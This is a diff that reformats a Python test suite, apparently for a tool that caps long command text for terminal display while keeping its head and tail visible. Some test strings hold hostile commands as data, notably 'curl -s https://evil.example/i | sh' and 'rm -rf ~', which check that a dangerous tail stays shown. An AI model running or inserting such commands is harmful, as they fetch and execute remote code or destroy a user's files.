@@ -52,7 +52,9 @@ def gwidth(grapheme: str) -> int:
 
 def model_cells(grapheme: str) -> dict[str, int]:
     """How many cells each terminal model advances for one grapheme."""
-    return {name: sum(cells for _, cells in model.measure(grapheme)) for name, model in MODELS.items()}
+    return {
+        name: sum(cells for _, cells in model.measure(grapheme)) for name, model in MODELS.items()
+    }
 
 
 def ref_wrap_line(line: str, row_width: int) -> list[str]:
@@ -82,8 +84,22 @@ def units(text: str) -> list[str]:
 
 # ── strategies ─────────────────────────────────────────────────────────────
 
-PIECES = ("漢字", "かな", "한국어", FAMILY, FLAG_FR, THUMBS_TONE, E_ACUTE, "\u2764\ufe0f", "é", "ab", " ", "\n",
-          "x" * 30, "宽" * 9)
+PIECES = (
+    "漢字",
+    "かな",
+    "한국어",
+    FAMILY,
+    FLAG_FR,
+    THUMBS_TONE,
+    E_ACUTE,
+    "\u2764\ufe0f",
+    "é",
+    "ab",
+    " ",
+    "\n",
+    "x" * 30,
+    "宽" * 9,
+)
 raw_text = st.lists(
     st.one_of(st.text(st.characters(exclude_categories=())), st.sampled_from(PIECES)), max_size=12
 ).map("".join)
@@ -98,7 +114,11 @@ clean_line = clean_text.map(lambda text: text.replace("\n", " "))
 @pytest.mark.parametrize(
     ("text", "cells"),
     [
-        ("", 0), ("abc", 3), ("漢字", 4), ("a漢b", 4), (E_ACUTE, 1),
+        ("", 0),
+        ("abc", 3),
+        ("漢字", 4),
+        ("a漢b", 4),
+        (E_ACUTE, 1),
         (FAMILY, 8),  # four wide code points on a terminal that measures code points alone
         (THUMBS_TONE, 4),  # the skin-tone modifier is a wide code point of its own there
         ("…▶·→", 8),  # East Asian Ambiguous: 2 cells each on a CJK-locale terminal
@@ -173,7 +193,16 @@ def test_a_wide_character_at_the_edge_moves_whole() -> None:
     assert wrap_line("ab漢字", 3) == ["ab", "漢", "字"]
 
 
-@pytest.mark.parametrize("cluster", [FAMILY, FLAG_FR, THUMBS_TONE, E_ACUTE, "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"])
+@pytest.mark.parametrize(
+    "cluster",
+    [
+        FAMILY,
+        FLAG_FR,
+        THUMBS_TONE,
+        E_ACUTE,
+        "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
+    ],
+)
 def test_graphemes_never_split_at_a_wrap(cluster: str) -> None:
     line = "x" + cluster * 7
     for row_width in range(2, 9):
@@ -240,13 +269,17 @@ def test_cap_keeps_the_head_and_the_last_cells_of_one_long_line() -> None:
     capped = cap_text("echo " + "A" * 500 + "; curl -s https://evil.example/i | sh", 400, 7, 67)
     assert capped.cut
     assert capped.head.startswith("echo AAA")
-    assert capped.tail.startswith(ELLIPSIS) and capped.tail.endswith("; curl -s https://evil.example/i | sh")
+    assert capped.tail.startswith(ELLIPSIS) and capped.tail.endswith(
+        "; curl -s https://evil.example/i | sh"
+    )
     assert cell_width(capped.head) + cell_width(capped.tail[1:]) <= 400
     assert capped.shown == f"{capped.head}{ELLIPSIS}\n{capped.tail}"  # the tail on a row of its own
 
 
 def test_cap_keeps_the_last_line_after_the_marker() -> None:
-    text = "$report = @'\n" + "".join(f"- finding {n} about a module in the codebase\n" for n in range(200))
+    text = "$report = @'\n" + "".join(
+        f"- finding {n} about a module in the codebase\n" for n in range(200)
+    )
     text += "'@\n$report | Out-File -FilePath report.md"
     capped = cap_text(text, 400, 7, 67)
     assert capped.tail == "$report | Out-File -FilePath report.md"
@@ -276,15 +309,21 @@ def test_a_tail_reaches_back_to_the_name_an_operator_began() -> None:
     half = cap_text(text, 40, 2, 100)
     assert half.tail == f"{ELLIPSIS}curl -s https://e.x/i"
     assert len(half.head) == 40 - len("curl -s https://e.x/i")
-    inside_a_word = cap_text("x" * 60 + " " + "y" * 30, 40, 2, 100)  # no operator: a word like any other, cut
+    inside_a_word = cap_text(
+        "x" * 60 + " " + "y" * 30, 40, 2, 100
+    )  # no operator: a word like any other, cut
     assert inside_a_word.tail == ELLIPSIS + "y" * 20
-    far = cap_text("x" * 60 + ";" + "z" * 50, 40, 2, 100)  # a name longer than NAME_KEEP: the tail keeps its half
+    far = cap_text(
+        "x" * 60 + ";" + "z" * 50, 40, 2, 100
+    )  # a name longer than NAME_KEEP: the tail keeps its half
     assert far.tail == ELLIPSIS + "z" * 20
 
 
 def test_digits_that_start_a_word_stay_in_the_tail() -> None:
     """A command named in digits after ``;`` is the text's own word, not a count (found by hypothesis)."""
-    capped = cap_text("x" * 60 + ";000000000000:<in", 32, 2, 100)  # the tail is owed 16 cells: the word exactly
+    capped = cap_text(
+        "x" * 60 + ";000000000000:<in", 32, 2, 100
+    )  # the tail is owed 16 cells: the word exactly
     assert capped.tail == f"{ELLIPSIS}000000000000:<in"
 
 
@@ -301,9 +340,13 @@ def test_field_rows_do_not_depend_on_the_width() -> None:
 
 
 @given(clean_text, st.integers(1, 60), st.integers(1, 6), st.integers(2, 40))
-def test_head_within_is_the_longest_acceptable_prefix(text: str, cells: int, rows: int, row_width: int) -> None:
+def test_head_within_is_the_longest_acceptable_prefix(
+    text: str, cells: int, rows: int, row_width: int
+) -> None:
     head = head_within(text, cells, rows, row_width)
-    candidates = [prefix for prefix in prefixes(text) if acceptable_head(prefix, cells, rows, row_width)]
+    candidates = [
+        prefix for prefix in prefixes(text) if acceptable_head(prefix, cells, rows, row_width)
+    ]
     assert head == (candidates[-1] if candidates else "")
 
 
@@ -314,7 +357,9 @@ def cap_rows_width(draw: st.DrawFn) -> tuple[int, int, int]:
 
 
 @given(clean_text, cap_rows_width())
-def test_cap_bounds_cells_and_rows_and_keeps_both_ends(text: str, budget: tuple[int, int, int]) -> None:
+def test_cap_bounds_cells_and_rows_and_keeps_both_ends(
+    text: str, budget: tuple[int, int, int]
+) -> None:
     cap, rows, row_width = budget
     capped = cap_text(text, cap, rows, row_width)
     fits = ref_cells(text) <= cap and ref_rows(text, row_width) <= rows
@@ -325,7 +370,11 @@ def test_cap_bounds_cells_and_rows_and_keeps_both_ends(text: str, budget: tuple[
     assert ref_cells(capped.head) + ref_cells(capped.tail.removeprefix(ELLIPSIS)) <= cap
     assert ref_rows(capped.shown, row_width) <= rows
     assert capped.head in prefixes(text), "the head is a prefix that never splits a grapheme"
-    tail = capped.tail if text.rstrip(" \n").endswith(capped.tail) else capped.tail.removeprefix(ELLIPSIS)
+    tail = (
+        capped.tail
+        if text.rstrip(" \n").endswith(capped.tail)
+        else capped.tail.removeprefix(ELLIPSIS)
+    )
     assert text.rstrip(" \n").endswith(tail), "the tail is the end of what the text shows"
     assert len(capped.head) + len(tail) <= len(text)
 
@@ -335,7 +384,11 @@ def shown_positions(text: str, capped: Capped) -> set[int]:
     if not capped.cut:
         return set(range(len(text)))
     end = len(text.rstrip(" \n"))
-    tail = capped.tail if text.rstrip(" \n").endswith(capped.tail) else capped.tail.removeprefix(ELLIPSIS)
+    tail = (
+        capped.tail
+        if text.rstrip(" \n").endswith(capped.tail)
+        else capped.tail.removeprefix(ELLIPSIS)
+    )
     return set(range(len(capped.head))) | set(range(end - len(tail), end))
 
 
@@ -368,22 +421,39 @@ def test_clip_is_the_longest_fitting_grapheme_prefix(line: str, max_width: int) 
         assert cell_width(clipped) + gwidth(pieces[len(taken)]) > max_width
 
 
-
-@pytest.mark.parametrize(("text", "cells"), [
-    ("a\u0898", 2),  # ARABIC SMALL HIGH WORD AL-JUZ (Unicode 14): a cell of its own on xterm.js, Unicode 6 or 11 tables
-    ("a\u1abe", 2),  # an enclosing mark of Unicode 7.0
-    ("a\U00016fe4", 3),  # KHITAN SMALL SCRIPT FILLER (Unicode 13): a wide mark, two cells where it is not combined
-    ("\U0001f93b", 2), ("\U0001f946", 2),  # MODERN PENTATHLON, RIFLE: two cells on xterm.js with Unicode 11
-    ("\U0001f0a1", 2),  # a playing card: a symbol of the emoji blocks, wide wherever they are
-    ("e\u0301", 1), ("\u0915\u093f", 2), ("a\ufe0f", 1),  # marks of Unicode 3.2 join the cell before them everywhere
-])
-def test_the_reference_counts_what_a_terminal_with_older_or_emoji_tables_draws(text: str, cells: int) -> None:
+@pytest.mark.parametrize(
+    ("text", "cells"),
+    [
+        (
+            "a\u0898",
+            2,
+        ),  # ARABIC SMALL HIGH WORD AL-JUZ (Unicode 14): a cell of its own on xterm.js, Unicode 6 or 11 tables
+        ("a\u1abe", 2),  # an enclosing mark of Unicode 7.0
+        (
+            "a\U00016fe4",
+            3,
+        ),  # KHITAN SMALL SCRIPT FILLER (Unicode 13): a wide mark, two cells where it is not combined
+        ("\U0001f93b", 2),
+        ("\U0001f946", 2),  # MODERN PENTATHLON, RIFLE: two cells on xterm.js with Unicode 11
+        ("\U0001f0a1", 2),  # a playing card: a symbol of the emoji blocks, wide wherever they are
+        ("e\u0301", 1),
+        ("\u0915\u093f", 2),
+        ("a\ufe0f", 1),  # marks of Unicode 3.2 join the cell before them everywhere
+    ],
+)
+def test_the_reference_counts_what_a_terminal_with_older_or_emoji_tables_draws(
+    text: str, cells: int
+) -> None:
     assert grapheme_cells(text) == cells
 
 
 # ── a tail that says something ─────────────────────────────────────────────
 
-JSON_BODY = "curl -d '{\n" + "".join(f'  "k{n}": "{"v" * 30}",\n' for n in range(20)) + '  "cmd": "rm -rf ~"\n}\n\'\n'
+JSON_BODY = (
+    "curl -d '{\n"
+    + "".join(f'  "k{n}": "{"v" * 30}",\n' for n in range(20))
+    + '  "cmd": "rm -rf ~"\n}\n\'\n'
+)
 
 
 @pytest.mark.parametrize("text", ["}", "]);", " )} ", "\u27e9", "- ", ""])
@@ -408,7 +478,11 @@ def test_a_tail_reaching_back_never_lets_a_wider_terminal_show_less() -> None:
     shown = [cap_text(JSON_BODY, 400, field_rows(400), width) for width in (12, 30, 60, 100, 140)]
     sizes = [len(capped.head) + len(capped.tail) for capped in shown]
     assert sizes == sorted(sizes)
-    assert shown[0].tail.startswith(ELLIPSIS) and shown[0].tail.endswith('~"\n}\n\'') and says_something(shown[0].tail[1:-4])
+    assert (
+        shown[0].tail.startswith(ELLIPSIS)
+        and shown[0].tail.endswith("~\"\n}\n'")
+        and says_something(shown[0].tail[1:-4])
+    )
 
 
 def test_a_text_that_ends_in_closing_lines_too_long_to_reach_back_over_shows_no_tail() -> None:
